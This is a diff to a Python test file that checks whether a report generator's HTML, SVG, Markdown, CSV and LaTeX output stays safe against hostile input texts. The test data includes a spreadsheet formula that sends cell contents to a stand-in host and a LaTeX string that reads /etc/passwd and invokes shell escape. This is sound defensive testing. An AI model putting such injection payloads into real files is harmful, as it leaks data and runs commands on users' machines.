@@ -6,6 +6,7 @@ import csv
 import io
 import math
 import re
+from functools import cache
 from html.parser import HTMLParser
 from xml.etree import ElementTree
 
@@ -30,6 +31,14 @@ TEXTS = {
     "formula": '=HYPERLINK("http://example.org/?"&A1)',
     "latex": "\\input{/etc/passwd}\\write18{x}%&_#{}~^^M[1pt]\x1b\x00\u202e$\\undefined$",
 }
+TEXTS["together"] = " ".join(TEXTS[name] for name in ("script", "attribute", "apostrophe", "latex"))
+# Each by itself in make test-slow: a report of each takes seconds.
+EACH = [
+    name
+    if name in ("together", "markdown", "fence")
+    else pytest.param(name, marks=pytest.mark.slow)
+    for name in TEXTS
+]
 
 
 def runs_with(hostile):
@@ -116,30 +125,32 @@ def harmless(page, like):
 
 @pytest.fixture(scope="module")
 def reports(tmp_path_factory):
-    """Reports by their texts; one of plain ones among them."""
-    found = {}
-    for name, hostile in {**TEXTS, "plain": "plain"}.items():
-        folder = tmp_path_factory.mktemp(name)
-        found[name] = write_report(folder, results_with(hostile))
-    return found
+    """A function that gives the report of a text, and of plain ones."""
+
+    @cache
+    def report(name):
+        hostile = {**TEXTS, "plain": "plain"}[name]
+        return write_report(tmp_path_factory.mktemp(name), results_with(hostile))
+
+    return report
 
 
 def read(path):
     return path.read_text(encoding="utf-8")
 
 
-@pytest.mark.parametrize("name", TEXTS)
+@pytest.mark.parametrize("name", EACH)
 def test_html(reports, name):
-    harmless(read(reports[name].html), read(reports["plain"].html))
-    for figure in (reports[name].html.parent / "figures").glob("*.svg"):
+    harmless(read(reports(name).html), read(reports("plain").html))
+    for figure in (reports(name).html.parent / "figures").glob("*.svg"):
         harmless(read(figure), "")
         ElementTree.fromstring(read(figure))
 
 
-@pytest.mark.parametrize("name", TEXTS)
+@pytest.mark.parametrize("name", EACH)
 def test_markdown(reports, name):
-    lines = read(reports[name].markdown).splitlines()
-    plain = read(reports["plain"].markdown).splitlines()
+    lines = read(reports(name).markdown).splitlines()
+    plain = read(reports("plain").markdown).splitlines()
 
     def marks(lines, pattern):
         return sum(bool(re.match(pattern, line)) for line in lines)
@@ -177,7 +188,9 @@ def test_csv_keeps_numbers():
     assert (rows[0]["task_error_max"], rows[0]["settling"]) == ("-1.5", "-inf")
 
 
-@pytest.mark.parametrize("name", ["latex", "formula", "markdown"])
+@pytest.mark.parametrize(
+    "name", ["latex", *(pytest.param(n, marks=pytest.mark.slow) for n in ("formula", "markdown"))]
+)
 def test_latex(name, tmp_path, monkeypatch):
     if name != "latex":  # figures hold the same texts
         monkeypatch.setattr(files, "printed", lambda *charts, **options: b"")
